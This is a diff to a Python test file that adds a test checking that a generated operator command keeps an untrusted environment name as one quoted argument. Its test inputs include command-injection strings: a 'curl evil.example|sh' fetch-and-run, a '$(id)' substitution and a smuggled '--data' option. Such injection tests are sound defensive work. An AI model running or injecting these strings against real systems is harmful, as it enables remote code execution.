@@ -3,15 +3,17 @@
 from __future__ import annotations
 
 import re
+import shlex
 import sys
 from datetime import UTC, datetime, timedelta
 
 import pytest
 from starlette.datastructures import QueryParams
 
-from api.console import timeline
+from api.console import gaps, timeline
 from api.console.asking import PageQuestion, read_query
 from api.console.running import Matrix
+from api.register_commands import environment_register
 from domain.errors import RefusedError
 from exporters import charts, wording
 from exporters.charts import Series
@@ -95,6 +97,19 @@ def test_deployments_lie_along_time_by_line() -> None:
     assert found.left_out == 6
     assert "<title>d1: failure, 2026-03-31 13:34 UTC</title>" in found.drawing
     assert timeline.along([{**rows[0], "finished_at": None}]) is None
+
+
+@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "--data=/tmp/theirs"])
+def test_what_settles_a_gap_says_an_environments_name_and_nothing_else(name: str) -> None:
+    """It is the command of operators: the name, which anybody may have sent, is one word of it."""
+    (gap,) = gaps.told([{"gap": gaps.TIER, "name": name, "items": 2}])
+    words = shlex.split(gap.run or "")
+    assert words[:3] == ["pipeledger-server", "environment", "register"]
+    filled = [word.replace("TIER", "production") for word in words[3:]]
+    said = environment_register.make_context("register", filled).params
+    assert (said["environment"], said["tier"]) == (name, "production")
+    (unnamed,) = gaps.told([{"gap": gaps.TIER, "name": None, "items": 2}])
+    assert unnamed.run is None
 
 
 def test_production_is_the_first_column_of_what_runs() -> None:
